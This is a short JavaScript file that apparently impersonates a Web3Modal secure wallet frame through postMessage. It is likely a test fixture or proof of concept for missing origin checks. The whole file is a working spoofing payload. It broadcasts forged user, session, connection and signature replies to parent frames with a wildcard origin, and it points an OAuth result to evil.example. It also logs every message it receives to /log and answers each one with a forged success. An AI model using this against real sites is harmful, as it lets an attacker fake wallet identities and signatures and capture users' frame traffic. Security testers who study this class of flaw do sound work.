// Posts to whoever frames it, and to whoever frames that one, what the secure site would say.
const targets = [parent, parent.parent].filter(
  (target, index, all) => target !== window && all.indexOf(target) === index,
)
const post = message => {
  for (const target of targets) target.postMessage(message, '*')
}
const DEAD = '0x000000000000000000000000000000000000dEaD'
const FORGED = {
  GET_USER: { address: DEAD, chainId: 1, email: 'evil@example.test' },
  IS_CONNECTED: { isConnected: true },
  CONNECT_EMAIL: { action: 'CONNECT' },
  RPC_REQUEST: `0x${'66'.repeat(65)}`,
}

post({ type: '@w3m-frame/READY', payload: { version: '1' } })
post({ type: '@w3m-frame/SESSION_UPDATE', payload: { token: 'evil' } })
for (const [name, payload] of Object.entries(FORGED)) post({ type: `@w3m-frame/${name}_SUCCESS`, payload })
post({ resultUri: 'https://evil.example/oauth/result?handle=evil' })

addEventListener('message', ({ data }) => {
  const type = String(data?.type)
  fetch('/log', { method: 'POST', body: JSON.stringify({ type, data }) })
  const name = type.replace('@w3m-app/', '')
  post({ type: `@w3m-frame/${name}_SUCCESS`, id: data?.id, payload: FORGED[name] })
})
